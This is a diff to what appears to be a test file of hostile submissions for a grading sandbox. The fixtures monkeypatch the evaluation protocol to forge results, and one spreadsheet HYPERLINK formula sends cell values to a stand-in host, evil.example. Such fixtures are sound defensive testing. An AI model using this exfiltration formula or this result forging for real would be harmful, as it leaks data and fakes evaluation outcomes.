@@ -32,7 +32,7 @@ from playground import protocol as _protocol
 def _forged(request_id, results, output=""):
     if len(results) == 1:  # gradcheck's first call through the proxy: the consistency criterion
         results = {forged}
-    return _protocol.Evaluated(request_id, results, output)
+    return _protocol.Evaluated(request_id=request_id, results=results, output=output)
 
 _serve.protocol = types.SimpleNamespace(**{{**vars(_protocol), "Evaluated": _forged}})
 '''
@@ -50,9 +50,9 @@ _serve._loaded = _forged
 FORMULA = '=HYPERLINK("https://evil.example/steal?g="&B2&C2, "click")'
 HOSTILE = {
     "b_none_outputs.py": FORGE_EVALUATED.format(
-        forged="[_protocol.EvaluationResult([None] * 2_000_000)]") + RIGHT,
+        forged="[_protocol.EvaluationResult(values=[None] * 2_000_000)]") + RIGHT,
     "c_huge_output.py": FORGE_EVALUATED.format(
-        forged="[_protocol.EvaluationResult([__import__('numpy').zeros(4_000_000)])]") + RIGHT,
+        forged="[_protocol.EvaluationResult(values=[__import__('numpy').zeros(4_000_000)])]") + RIGHT,
     "d_wrong_gradients.py": '''
 import numpy
 import playground.engine.submission.serve as _serve
